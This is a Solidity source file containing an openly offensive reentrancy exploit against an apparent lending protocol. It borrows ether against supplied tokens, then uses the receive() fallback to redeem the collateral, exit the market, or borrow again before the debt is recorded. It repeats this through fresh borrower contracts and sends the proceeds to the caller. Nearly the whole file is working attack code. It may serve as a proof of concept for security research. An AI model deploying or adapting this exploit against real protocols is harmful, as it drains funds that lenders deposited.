// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IMarket {
    function supply(uint256 amount) external;

    function redeem(uint256 shares) external;

    function borrow(uint256 amount) external;

    function sharesOf(address account) external view returns (uint256);
}

interface IEngine {
    function enterMarket(address market) external;

    function exitMarket(address market) external;
}

interface IToken {
    function approve(address spender, uint256 value) external returns (bool);

    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Borrows ether against tokens, and has the tokens back before the debt is written down. A fresh account each time.
contract VanishingCollateral {
    IEngine immutable engine;
    IMarket immutable ethers;
    IMarket immutable tokens;
    IToken immutable token;

    constructor(IEngine engine_, IMarket ethers_, IMarket tokens_, IToken token_) {
        engine = engine_;
        ethers = ethers_;
        tokens = tokens_;
        token = token_;
    }

    function run(uint256 rounds, uint256 borrowed, Borrower.Way way) external {
        for (uint256 i = 0; i < rounds; i++) {
            Borrower borrower = new Borrower(engine, ethers, tokens, token);
            token.transfer(address(borrower), token.balanceOf(address(this)));
            borrower.run(borrowed, way);
        }
        token.transfer(msg.sender, token.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract Borrower {
    enum Way { Redeem, Exit, BorrowTwice }

    IEngine immutable engine;
    IMarket immutable ethers;
    IMarket immutable tokens;
    IToken immutable token;
    Way way;

    constructor(IEngine engine_, IMarket ethers_, IMarket tokens_, IToken token_) {
        engine = engine_;
        ethers = ethers_;
        tokens = tokens_;
        token = token_;
    }

    function run(uint256 borrowed, Way way_) external {
        way = way_;
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(tokens), amount);
        tokens.supply(amount);
        engine.enterMarket(address(tokens));
        ethers.borrow(borrowed);
        if (way == Way.Exit) tokens.redeem(tokens.sharesOf(address(this)));
        token.transfer(msg.sender, token.balanceOf(address(this)));
        (bool ok, ) = msg.sender.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (way == Way.Redeem) tokens.redeem(tokens.sharesOf(address(this)));
        if (way == Way.Exit) engine.exitMarket(address(tokens));
        if (way == Way.BorrowTwice) tokens.borrow(msg.value * 2000);
    }
}
